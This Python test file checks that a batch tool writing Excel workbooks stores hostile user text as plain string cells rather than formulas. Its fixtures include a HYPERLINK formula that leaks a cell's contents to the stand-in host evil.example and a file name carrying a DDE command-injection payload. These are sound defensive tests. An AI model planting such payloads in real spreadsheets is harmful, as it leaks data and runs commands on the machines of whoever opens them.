"""Formula injection: user text in the workbooks the program writes stays text (a string cell), never a formula."""

from __future__ import annotations

import copy
import io
import json
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from desktop.batch.columns import FIRMS_SHEET, KEY_ROW
from desktop.batch.runner import run_batch
from desktop.batch.template import build_template
from desktop.catalog import Catalog
from desktop.paths import samples_dir
from tests.batch.conftest import fill, firm

DAY = date(2026, 3, 1)
LEAK = '=HYPERLINK("https://evil.example/?leak="&C3,"点击查看")'


def cells(path: Path) -> list:
    workbook = load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formulas(path: Path, *expected_texts: str) -> None:
    found = {cell.value: cell.data_type for cell in cells(path) if isinstance(cell.value, str)}
    assert not [cell.coordinate for cell in cells(path) if cell.data_type == "f"]
    for text in expected_texts:
        assert found.get(text) == "s", (text, found.get(text))


def test_folder_batch_names_codes_and_file_names(tmp_path: Path) -> None:
    folder = tmp_path / "firms"
    folder.mkdir()
    sample = json.loads((samples_dir() / "chengdu-trader.json").read_text(encoding="utf-8"))
    sample["firm"]["name"] = LEAK
    (folder / "a.json").write_text(json.dumps(sample, ensure_ascii=False), encoding="utf-8")
    failing = copy.deepcopy(sample)
    failing["firm"]["name"] = "=1+2"
    failing["firm"]["credit_code"] = "=SUM(1,2)"
    (folder / "b.json").write_text(json.dumps(failing, ensure_ascii=False), encoding="utf-8")
    (folder / "=cmd|' -C calc'!A0.json").write_text("{", encoding="utf-8")
    report = run_batch(folder, tmp_path / "out", DAY, jobs=1)
    assert_no_formulas(report.summary, LEAK, "=1+2", "=SUM(1,2)")
    assert_no_formulas(report.error_report, "=cmd|' -C calc'!A0.json", "=1+2")


def test_workbook_batch_text_cells_and_changes_sheet(tmp_path: Path) -> None:
    source = fill(tmp_path / "in.xlsx", [firm(name="甲"), firm(name="乙", credit_code="91510100MA6CDRM0TN")])
    workbook = load_workbook(source)
    sheet = workbook[FIRMS_SHEET]
    keys = [cell.value for cell in sheet[KEY_ROW]]
    for row, text in ((4, LEAK), (5, "=2+3")):
        cell = sheet.cell(row=row, column=keys.index("name") + 1)
        cell.value = text
        cell.data_type = "s"  # text typed with a leading apostrophe: a string the reader must keep as text
    workbook.save(source)
    first = run_batch(source, tmp_path / "out", DAY, jobs=1)
    assert_no_formulas(first.summary, LEAK, "=2+3")
    assert_no_formulas(first.error_report, "=2+3")
    second = run_batch(source, tmp_path / "out2", DAY, jobs=1, compare_to=first.summary)
    assert_no_formulas(second.summary, LEAK)


def test_blank_template_holds_no_formulas(catalog: Catalog) -> None:
    hostile = copy.deepcopy(catalog)
    key = next(iter(hostile.facts))
    hostile.facts[key] = hostile.facts[key].model_copy(update={"label": '=HYPERLINK("x")'})
    workbook = load_workbook(io.BytesIO(build_template(hostile)))
    texts = {cell.value: cell.data_type for s in workbook.worksheets for r in s.iter_rows() for cell in r}
    assert not [value for value, kind in texts.items() if kind == "f"]
    assert any(isinstance(v, str) and v.startswith('=HYPERLINK("x")') for v in texts)
